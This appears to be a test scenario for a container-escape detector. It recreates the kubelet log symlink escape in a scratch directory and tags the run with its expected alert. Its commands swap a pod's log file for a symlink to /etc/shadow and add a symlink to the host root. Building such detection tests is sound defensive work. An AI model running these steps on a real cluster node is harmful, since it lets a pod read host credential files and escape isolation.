# category: container-escape
# technique: T1611
# art: no
# expect: sensitive-file-link
# opts: --bind ../../hostlog:/var/log/host
# layer: mkdir -p ../../hostlog/pods/default_web-7d4b9_0a1b/web && echo '2026-12-07T19:00:00Z stdout F started' >../../hostlog/pods/default_web-7d4b9_0a1b/web/0.log
# desc: the kubelet log symlink escape (Aqua, 2019): a pod with the node's /var/log mounted (hostPath; here a scratch directory) replaces its own container log with a symlink to /etc/shadow and adds one to /, so that `kubectl logs` (the kubelet, root on the node) reads host files for it
# note: ../../ is the scenario's scratch directory on the host ($EXR_STATE of tests/lib/container.sh): layer commands run in $EXR_STATE/ov/layer, and runc resolves a relative bind source against the bundle, $EXR_STATE/bundles/NAME
cd /var/log/host/pods/default_web-7d4b9_0a1b/web
rm -f 0.log
ln -s /etc/shadow 0.log
ln -s / /var/log/host/root_link
ls -l /var/log/host /var/log/host/pods/default_web-7d4b9_0a1b/web
